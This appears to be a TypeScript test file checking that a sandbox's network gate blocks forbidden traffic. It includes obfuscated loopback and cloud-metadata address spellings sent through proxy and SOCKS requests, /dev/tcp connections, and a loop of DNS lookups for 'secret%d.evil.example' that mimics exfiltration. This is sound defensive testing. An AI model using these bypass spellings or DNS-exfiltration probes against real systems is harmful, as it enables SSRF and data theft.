// Boxes that reach single hosts, in an internet of the test's own: waiting for a person in every mode, odd spellings at the proxy port,
// what is left of a box or a gate that was killed, and the machine's name server.

import assert from "node:assert/strict";
import { execFile, spawn } from "node:child_process";
import { createSocket } from "node:dgram";
import { mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test, { type TestContext } from "node:test";
import { promisify } from "node:util";
import type { Approver, Question } from "../../src/index.ts";
import { answerTo } from "../fixtures/approver.ts";
import { configText, type Grants, makeTestDirectories } from "../fixtures/gate.ts";
import { nameServer } from "../fixtures/internet.ts";
import { makeCertificate, serveLine, serveWeb } from "../fixtures/internet-servers.ts";
import { processesWith, until } from "../fixtures/run.ts";
import { openScriptGate, type ScriptGate } from "../fixtures/script-gate.ts";
import { limits } from "../../src/shared/limits.ts";

const directory = mkdtempSync(join(tmpdir(), "sallyport-acceptance-"));
const directories = makeTestDirectories();
test.after(() => {
  directories.remove();
  rmSync(directory, { recursive: true, force: true });
});

const tls = makeCertificate(directory, ["web.test", "other.test"]);
const servers = {
  plain: await serveWeb("203.0.113.80", 80, null),
  line: await serveLine("203.0.113.80", 22, "hello\n"),
  other: await serveWeb("203.0.113.81", 443, tls),
  private: await serveWeb("10.1.2.3", 80, null),
  metadata: await serveWeb("169.254.169.254", 80, null),
  machine: await serveWeb("127.0.0.1", 80, null),
  database: await serveLine("127.0.0.1", 5432, "the machine's\n"),
  beside: await serveLine("127.0.0.1", 5433, "another one\n"),
};
const accepts = () => Object.fromEntries(Object.entries(servers).map(([name, { accepts: count }]) => [name, count]));

const paths = [
  { path: "/usr", mode: "r" },
  { path: directory, mode: "r" },
  { path: process.execPath, mode: "r" },
] as const;
let sessions = 0;

function open(t: TestContext, grants: Grants, approvers: readonly Approver[] = []): ScriptGate {
  const gate = openScriptGate(directories, { paths, ...grants }, { approvers, session: `a${(sessions += 1)}` });
  t.after(() => gate.close());
  return gate;
}

const clients = {
  curl: `curl -sS --max-time 30 --cacert ${tls.ca}`,
  "node fetch": `NODE_USE_ENV_PROXY=1 NODE_EXTRA_CA_CERTS=${tls.ca} ${process.execPath} -e 'fetch(process.argv[1]).then((r) => r.text()).then((t) => process.stdout.write(t))'`,
};

for (const [client, command] of Object.entries(clients))
  for (const proxy of [false, true])
    test(`${client} waits for a yes, ${proxy ? "at the proxy port" : "with no variable"}, and goes on`, async (t) => {
      const heard: string[] = [];
      const asked: { readonly question: Question; readonly atMs: number }[] = [];
      const person: Approver = {
        name: "slow",
        async ask(question) {
          heard.push("asked");
          asked.push({ question, atMs: Date.now() });
          await new Promise((resolve) => setTimeout(resolve, limits.connectionHoldMs / 4));
          return answerTo(question);
        },
      };
      const gate = open(t, { network: ["web.test:443"], proxy }, [person]);
      // What the gate reads in a script it asks about before the script runs. It does not read this.
      const script = `name=oth; date +%s%3N; ${command} https://$name$(echo er).test/late`;
      const onOutput = (_: string, chunk: Uint8Array) => void heard.push(Buffer.from(chunk).toString());
      const reply = await gate.bash(script, {}, { onOutput });
      assert.ok(reply.ok, JSON.stringify(reply));
      const [begunMs = "", said] = String(reply.result["stdout"]).split("\n");
      assert.equal(said, "other.test GET /late", String(reply.result["stderr"]));
      assert.equal(asked.length, 1);
      assert.match(heard[0] ?? "", /^\d+\n$/, "the program ran when the question came");
      const waitedMs = (asked[0]?.atMs ?? Infinity) - Number(begunMs);
      t.diagnostic(`the question came ${waitedMs} ms after the program began, with the start of ${client}`);
      assert.ok(waitedMs < limits.connectionHoldMs);
    });

test("at the proxy port of a box, no spelling leads to the machine or its network", async (t) => {
  const spellings = [
    "127.0.0.1 127.1 0x7f.1 0x7f000001 2130706433 0177.0.0.1 127.0.0.1. 0.0.0.0 localhost LOCALHOST. app.localhost [::1]",
    "[::ffff:127.0.0.1] [::ffff:7f00:1] 169.254.169.254 [::ffff:a9fe:a9fe] 10.1.2.3 private.test metadata.test loopback.test mixed.test",
  ].join(" ");
  const script = `python3 - ${spellings} web.test <<'E'
import socket, sys
def send(data):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 20); s.sendall(data); s.settimeout(20)
        try: return s.recv(999)
        finally: s.close()
    except OSError as error: return b""
request = b"GET /%s HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: close\\r\\n\\r\\n"
for host in sys.argv[1:]:
    name = host.encode()
    send(b"CONNECT %s:80 HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (name, name) + request % b"connect")
    send(b"GET http://%s:80/absolute HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: close\\r\\n\\r\\n" % name)
    send(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name + b"\\x00\\x50" + request % b"socks")
E`;
  const granted = ["web.test:80", "private.test:80", "metadata.test:80", "loopback.test:80", "mixed.test:80"];
  const before = accepts();
  const { stderr } = await open(t, { network: granted, proxy: true }).ranBash(script, { timeout_s: 120 });
  assert.equal(stderr, "");
  assert.deepEqual(accepts(), { ...before, plain: (before["plain"] ?? 0) + 3 }, "the last one, as the control");
});

test("the machine's localhost: the port that is granted, and not the one beside it", async (t) => {
  const gate = open(t, { network: ["localhost:5432"] });
  const before = accepts();
  const { stdout } = await gate.ranBash(
    "head -1 < /dev/tcp/localhost/5432; head -1 < /dev/tcp/::1/5432; head -1 < /dev/tcp/localhost/5433",
  );
  assert.equal(stdout, "the machine's\nthe machine's\n");
  assert.deepEqual(accepts(), { ...before, database: (before["database"] ?? 0) + 2 });
});

test("a thousand questions about names send no packet to the machine's name server", async (t) => {
  const packets: Buffer[] = [];
  const socket = createSocket("udp4").on("message", (packet) => packets.push(packet));
  await new Promise<void>((resolve) => socket.bind(53, nameServer, resolve));
  t.after(() => socket.close());
  const ask = `import socket
for i in range(1000):
    try: socket.getaddrinfo("secret%d.evil.example" % i, 443)
    except OSError: pass`;
  await open(t, { network: ["web.test:443"] }).ranBash(`python3 -c '${ask}'`, { timeout_s: 120 });
  await open(t, { network: [] }).ranBash(`python3 -c '${ask}'`, { timeout_s: 120 });
  assert.equal(packets.length, 0);
  // The control: without the box the first of them is a packet.
  await promisify(execFile)("python3", ["-c", ask.replace("1000", "1")]);
  assert.ok(packets.some((packet) => packet.includes("secret0")));
});

const socketCount = () => readdirSync("/proc/self/fd").filter((fd) => linkOf(fd).startsWith("socket:")).length;

function linkOf(fd: string): string {
  try {
    return readlinkSync(`/proc/self/fd/${fd}`);
  } catch {
    return "";
  }
}

/** The first process of the box that this process is in. */
function firstOfBox(pid: number): number {
  const status = readFileSync(`/proc/${pid}/status`, "latin1");
  if (/^NSpid:.*\t1$/m.test(status)) return pid;
  return firstOfBox(Number(/^PPid:\t(\d+)$/m.exec(status)?.[1]));
}

const holding = (mark: string) => `exec 3<>/dev/tcp/web.test/22; head -1 <&3; sleep ${mark}`;

test("after a box was killed, the gate holds no socket of it, and the server's connection has ended", async (t) => {
  const gate = open(t, { network: ["web.test:22"] });
  await gate.ranBash("head -1 < /dev/tcp/web.test/22");
  await until("the first call's are closed", () => servers.line.open === 0);
  const before = socketCount();
  const mark = `98${process.pid}.1`;
  const reply = gate.bash(holding(mark), { timeout_s: 100 });
  await until("it holds a connection", () => servers.line.open === 1 && processesWith(mark).length > 0);
  assert.ok(socketCount() > before);
  const [pid = 0] = processesWith(mark);
  process.kill(firstOfBox(pid), "SIGKILL");
  await reply;
  await until("its sockets are closed", () => socketCount() <= before && servers.line.open === 0);
});

test("after the gate was killed, nothing is left of the box, and the server's connection has ended", async () => {
  const mark = `97${process.pid}.1`;
  const config = configText(directories, { paths, network: ["web.test:22"] });
  const args = { argv: ["/bin/bash", "-c", holding(mark)] };
  const words = { statePath: directories.state, project: directories.project, configText: config, args };
  const program = join(import.meta.dirname, "../fixtures/gate-process.ts");
  const gate = spawn(process.execPath, [program, JSON.stringify(words)], { stdio: "ignore" });
  await until("it holds a connection", () => servers.line.open === 1);
  const processes = () => processesWith(mark).filter((pid) => pid !== gate.pid);
  await until("its program runs", () => processes().length > 0);
  gate.kill("SIGKILL");
  await until("the connection has ended", () => servers.line.open === 0);
  await until("the box has ended", () => processes().length === 0);
});
